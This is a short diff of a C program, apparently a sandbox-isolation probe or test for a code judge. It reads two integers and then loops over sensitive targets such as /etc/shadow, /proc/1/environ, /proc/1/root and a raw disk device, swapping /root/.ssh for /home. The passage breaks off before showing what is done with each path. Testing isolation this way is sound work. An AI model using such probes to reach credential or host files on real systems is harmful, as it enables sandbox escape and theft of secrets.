@@ -9,7 +9,7 @@
 int main(void) {
     int a, b; if (scanf("%d%d", &a, &b) != 2) return 1;
     const char *targets[] = {"/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/passwd",
-                             "/proc/1/cwd", "/proc/1/fd/3", "/root/.ssh", "/var/lib", "/dev/vda", "/sys"};
+                             "/proc/1/cwd", "/proc/1/fd/3", "/home", "/var/lib", "/dev/vda", "/sys"};
     for (unsigned i = 0; i < sizeof targets / sizeof *targets; i++) {
         char name[16];
         snprintf(name, sizeof name, "/w/l%u", i);
